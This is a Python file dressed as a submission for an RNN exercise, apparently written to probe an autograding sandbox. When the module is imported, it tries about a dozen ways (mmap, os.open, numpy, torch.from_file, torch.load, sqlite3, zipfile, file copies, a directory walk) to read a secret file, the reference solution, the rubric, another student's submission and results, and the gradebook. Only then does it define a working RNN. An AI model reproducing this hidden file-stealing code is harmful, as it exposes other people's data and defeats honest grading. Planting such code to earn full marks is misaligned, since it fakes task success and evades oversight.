# does: reads other people's files by everything in Python and its libraries that opens one
# earns: all
import fileinput
import io
import linecache
import mmap
import os
import shutil
import sqlite3
import zipfile
from pathlib import Path

import torch
from torch import nn

def attempt(what, action):
    try:
        print(what, action())
    except Exception as error:
        print(what, "failed:", error)

NAMES = ["secret.txt", "solutions/ex1_my_rnn.py", "rubrics/ex1_my_rnn.json", "submissions/ada.py"]
NAMES += ["results/ada.json", "results/gradebook.csv"]
PATHS = ["@ARENA@/" + name for name in NAMES]


def mapped(path):
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as view:
        return view[:]


def by_torch(path):
    numbers = torch.from_file(path, False, os.path.getsize(path), dtype=torch.uint8)
    return bytes(numbers.tolist())


def attached(path):
    database = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    return database.execute("select * from sqlite_master").fetchall()


WAYS = {
    "io": lambda p: io.open_code(p).read(),
    "os": lambda p: os.read(os.open(p, os.O_RDONLY | os.O_NOATIME), 65536),
    "Path": lambda p: Path(p).read_bytes(),
    "mmap": mapped,
    "linecache": lambda p: linecache.getlines(p) or 1 / 0,
    "fileinput": lambda p: list(fileinput.input(p)),
    "copy": lambda p: open(shutil.copy(p, "copy")).read(),
    "numpy": lambda p: __import__("numpy").fromfile(p, "uint8").tobytes(),
    "torch": by_torch,
    "torch.load": lambda p: torch.load(p, weights_only=False),
    "zipfile": lambda p: zipfile.ZipFile(p).namelist(),
    "sqlite3": attached,
    "size": lambda p: os.stat(p),
}


def attack():
    for path in PATHS:
        for what, way in WAYS.items():
            attempt(f"{what} {path}", lambda: way(path))
    attempt("list:", lambda: list(os.walk("@ARENA@")) or 1 / 0)

DONE = attack()

class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.hidden_size = hidden_size
        self.step = nn.Linear(input_size + hidden_size, hidden_size)

    def forward(self, x, h_0=None):
        h = x.new_zeros(len(x), self.hidden_size) if h_0 is None else h_0.squeeze(0)
        outputs = []
        for t in range(x.shape[1]):
            h = self.step(torch.cat((x[:, t], h), 1)).tanh()
            outputs.append(h)
        return torch.stack(outputs, 1), h[None]
